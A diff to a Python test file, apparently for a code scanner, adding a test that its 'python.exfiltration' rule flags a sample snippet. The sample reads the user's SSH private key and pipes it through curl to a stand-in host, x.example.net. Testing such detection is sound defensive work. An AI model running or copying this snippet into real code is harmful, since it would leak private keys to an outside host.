@@ -471,3 +471,14 @@ def test_a_key_read_from_env_lines_signs_in_to_its_api() -> None:
     theft = reader + "requests.post('https://api.acme.dev/v1', json={'k': key()})\n"
     assert "python.exfiltration" not in _rules(honest)
     assert "python.exfiltration" in _rules(theft)
+
+
+def test_data_fed_to_an_uploading_process() -> None:
+    source = (
+        "import os, subprocess\n"
+        "key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
+        "cmd = ['curl', '-d', '@-', 'https://x.example.net']\n"
+        "p = subprocess.Popen(cmd, stdin=subprocess.PIPE)\n"
+        "p.communicate(key.encode())\n"
+    )
+    assert "python.exfiltration" in _rules(source)
